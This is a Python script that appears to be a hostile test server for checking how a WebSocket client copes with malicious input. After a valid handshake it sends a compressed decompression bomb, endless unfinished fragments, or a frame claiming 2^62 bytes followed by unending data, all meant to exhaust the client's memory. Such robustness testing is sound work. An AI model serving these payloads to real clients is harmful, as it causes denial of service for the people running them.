# exercise: hasty
"""WebSocket frames that claim 2^62 bytes, fragments without end, bombs and masked garbage.

Aims: the memory of the check's WebSocket client.
Ends: not_yet
"""

import base64
import hashlib
import itertools
import re
import struct
import zlib

turns = itertools.count()
packer = zlib.compressobj(9, zlib.DEFLATED, -15)
bomb = packer.compress(bytes(200_000_000)) + packer.flush(zlib.Z_SYNC_FLUSH)
GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"


def reply(connection, head):
    key = re.search(rb"(?i)sec-websocket-key: *(\S+)", head)
    if not key:
        connection.sendall(b"HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\n{}")
        return
    accept = base64.b64encode(hashlib.sha1(key[1] + GUID).digest())
    connection.sendall(
        b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
        b"Sec-WebSocket-Accept: %s\r\n\r\n" % accept
    )
    turn = next(turns) % 3
    if turn == 0:
        connection.sendall(b"\xc2\x7f" + struct.pack("!Q", len(bomb)) + bomb)
    while turn == 1:
        connection.sendall(b"\x01\x7e\xff\xff" + b"x" * 65535 + b"\x89\x00" * 100)
    connection.sendall(b"\x82\x7f" + struct.pack("!Q", 1 << 62))
    while True:
        connection.sendall(b"x" * 1_000_000)


# app: raw
